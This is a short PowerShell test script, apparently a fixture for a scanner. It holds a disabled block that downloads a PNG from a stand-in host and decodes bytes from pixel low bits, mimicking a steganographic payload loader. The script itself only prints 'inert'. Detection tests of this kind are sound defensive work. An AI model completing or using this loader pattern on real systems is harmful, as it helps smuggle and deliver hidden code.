# INERT SEKISHO TEST
param([string]$name)
if ($false) {
Add-Type -AssemblyName System.Drawing
$g = New-Object System.Drawing.Bitmap((New-Object Net.WebClient).OpenRead('http://example.invalid/inert.png'))
$o = New-Object byte[] 100
$p = $g.GetPixel(0, 0)
$o[0] = ([math]::Floor(($p.B -band 15) * 16) -bor ($p.G -band 15))
}
Write-Host "inert"
